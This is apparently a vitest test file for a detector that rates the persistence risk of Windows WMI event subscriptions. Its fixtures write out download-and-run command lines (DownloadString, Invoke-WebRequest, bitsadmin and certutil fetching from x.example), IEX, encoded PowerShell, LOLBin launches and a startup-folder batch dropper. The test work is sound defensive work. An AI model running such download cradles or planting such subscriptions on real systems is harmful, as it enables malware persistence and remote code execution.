import { describe, expect, it } from 'vitest';
import { analyzeObjects } from '../../../src/domain/analysis/analyze.js';
import { RISK_RULES } from '../../../src/domain/analysis/risk-rules.js';
import type { Finding } from '../../../src/domain/finding.js';
import { activeScriptConsumer, commandLineConsumer, filterObject, STARTUP_QUERY, subscription, utf16Base64, wmiObject } from './build-objects.js';

const PLAIN_QUERY = "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_Service'";

function analyzeOne(objects: Parameters<typeof analyzeObjects>[0]): Finding {
  const findings = analyzeObjects(objects, { allowlist: [] });
  expect(findings).toHaveLength(1);
  return findings[0]!;
}

function rulesOf(finding: Finding): string[] {
  return finding.reasons.map((r) => r.rule);
}

describe('risk rules', () => {
  it('has unique rule ids', () => {
    const ids = RISK_RULES.map((r) => r.id);
    expect(new Set(ids).size).toBe(ids.length);
  });

  it('raises a bound CommandLine consumer to High with the command in the reason', () => {
    const finding = analyzeOne(subscription(filterObject('f', PLAIN_QUERY), commandLineConsumer('c', 'C:\\Tools\\inventory.exe /quiet')));
    expect(finding.riskLevel).toBe('High');
    expect(finding.reasons.find((r) => r.rule === 'consumer.commandline')?.message).toContain('C:\\Tools\\inventory.exe /quiet');
  });

  it('raises a bound ActiveScript consumer to High', () => {
    const finding = analyzeOne(subscription(filterObject('f', PLAIN_QUERY), activeScriptConsumer('c', 'Dim x : x = 1')));
    expect(finding.riskLevel).toBe('High');
    expect(rulesOf(finding)).toContain('consumer.active-script');
  });

  it('makes a code consumer with an encoded PowerShell payload Critical and shows the decoded text', () => {
    const finding = analyzeOne(
      subscription(filterObject('f', PLAIN_QUERY), commandLineConsumer('c', `powershell.exe -NoP -EncodedCommand ${utf16Base64('Start-Sleep 5; Get-Process')}`)),
    );
    expect(finding.riskLevel).toBe('Critical');
    const reason = finding.reasons.find((r) => r.rule === 'payload.encoded-powershell')!;
    expect(reason.level).toBe('High');
    expect(reason.message).toContain('decoded: "Start-Sleep 5; Get-Process"');
    expect(rulesOf(finding)).toContain('combo.code-with-obfuscation-or-download');
  });

  it.each([
    ['FromBase64String', 'powershell -c "[Convert]::FromBase64String($a)"', 'payload.base64-decode'],
    ['IEX', 'powershell -c "IEX $a"', 'payload.invoke-expression'],
    ['DownloadString', "powershell -c \"(New-Object Net.WebClient).DownloadString('http://x.example')\"", 'payload.download'],
    ['Invoke-WebRequest', 'powershell -c "Invoke-WebRequest http://x.example -OutFile a"', 'payload.download'],
    ['bitsadmin', 'bitsadmin /transfer j http://x.example/a C:\\a.exe', 'payload.bitsadmin'],
    ['certutil -urlcache', 'certutil -urlcache -split -f http://x.example/a a.exe', 'payload.certutil'],
  ])('makes %s in a CommandLine consumer Critical', (_name, command, rule) => {
    const finding = analyzeOne(subscription(filterObject('f', PLAIN_QUERY), commandLineConsumer('c', command)));
    expect(rulesOf(finding)).toContain(rule);
    expect(finding.riskLevel).toBe('Critical');
  });

  it.each(['mshta.exe C:\\Tools\\a.hta', 'rundll32.exe C:\\a.dll,Run', 'regsvr32 /s /i:a.sct scrobj.dll', 'wscript.exe C:\\a.vbs', 'cscript.exe C:\\a.vbs'])(
    'raises the LOLBin or script host in "%s" to High, Critical on a start-up trigger',
    (command) => {
      const plain = analyzeOne(subscription(filterObject('f', PLAIN_QUERY), commandLineConsumer('c', command)));
      expect(rulesOf(plain)).toContain('payload.lolbin');
      expect(plain.riskLevel).toBe('High');
      const atStartup = analyzeOne(subscription(filterObject('f', STARTUP_QUERY), commandLineConsumer('c', command)));
      expect(atStartup.riskLevel).toBe('Critical');
      expect(rulesOf(atStartup)).toContain('combo.autostart-launcher');
    },
  );

  it.each(['C:\\Windows\\Temp\\a.exe', 'C:\\Users\\Public\\a.exe', 'C:\\Users\\x\\AppData\\Local\\a.exe', 'C:\\ProgramData\\a.exe'])(
    'raises a payload in the user-writable path %s',
    (command) => {
      const finding = analyzeOne(subscription(filterObject('f', PLAIN_QUERY), commandLineConsumer('c', command)));
      expect(rulesOf(finding)).toContain('payload.user-writable-path');
    },
  );

  it.each([
    ['WScript.Shell', 'CreateObject("WScript.Shell").Run "calc"', 'payload.script-exec-object'],
    ['ADODB.Stream', 'Set s = CreateObject("ADODB.Stream")', 'payload.script-download-object'],
    ['MSXML2.XMLHTTP', 'Set h = CreateObject("MSXML2.XMLHTTP")', 'payload.script-download-object'],
  ])('raises ActiveScript text using %s', (_name, script, rule) => {
    const finding = analyzeOne(subscription(filterObject('f', PLAIN_QUERY), activeScriptConsumer('c', script)));
    expect(rulesOf(finding)).toContain(rule);
  });

  it.each([
    ['startup', STARTUP_QUERY],
    ['logon', "SELECT * FROM __InstanceCreationEvent WITHIN 15 WHERE TargetInstance ISA 'Win32_LogonSession'"],
    ['process-start', "SELECT * FROM Win32_ProcessStartTrace WHERE ProcessName='notepad.exe'"],
    ['process-start', "SELECT * FROM __InstanceCreationEvent WITHIN 5 WHERE TargetInstance ISA 'Win32_Process'"],
    ['timer', "SELECT * FROM __TimerEvent WHERE TimerID = 'T1'"],
    ['timer', 'SELECT * FROM __IntervalTimerEvent'],
    ['timer', "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_LocalTime' AND TargetInstance.Hour = 3"],
  ])('recognises a %s trigger', (kind, query) => {
    const finding = analyzeOne(subscription(filterObject('f', query), commandLineConsumer('c', 'C:\\Tools\\a.exe')));
    expect(finding.reasons.find((r) => r.rule === `trigger.${kind}`)?.level).toBe('Medium');
  });

  it('raises a subscription outside root\\subscription', () => {
    const finding = analyzeOne(subscription(filterObject('f', PLAIN_QUERY, 'root\\cimv2'), commandLineConsumer('c', 'C:\\Tools\\a.exe', 'root\\cimv2')));
    expect(finding.namespace).toBe('root\\cimv2');
    expect(rulesOf(finding)).toContain('namespace.outside-subscription');
  });

  it('raises a consumer class outside the standard five', () => {
    const consumer = wmiObject('consumer', 'root\\subscription', 'EvilProviderConsumer', { Name: 'c', Payload: 'x' });
    const finding = analyzeOne(subscription(filterObject('f', PLAIN_QUERY), consumer));
    expect(finding.reasons.find((r) => r.rule === 'consumer.non-standard-class')?.level).toBe('Medium');
    expect(finding.consumerType).toBe('EvilProviderConsumer');
  });

  it('raises a LogFile consumer that writes a script into a Startup folder', () => {
    const consumer = wmiObject('consumer', 'root\\subscription', 'LogFileEventConsumer', {
      Name: 'c',
      FileName: 'C:\\ProgramData\\Microsoft\\Windows\\Start Menu\\Programs\\StartUp\\a.bat',
      Text: 'powershell -c calc',
    });
    const finding = analyzeOne(subscription(filterObject('f', PLAIN_QUERY), consumer));
    expect(rulesOf(finding)).toContain('consumer.logfile-writes-executable');
    expect(finding.riskLevel).toBe('High');
  });

  it('keeps a harmless non-code subscription Low with a reason that says why it is listed', () => {
    const consumer = wmiObject('consumer', 'root\\subscription', 'NTEventLogEventConsumer', { Name: 'c', SourceName: 'Inventory', EventID: 1 });
    const finding = analyzeOne(subscription(filterObject('f', PLAIN_QUERY), consumer));
    expect(finding.riskLevel).toBe('Low');
    expect(rulesOf(finding)).toEqual(['subscription.unlisted']);
  });
});
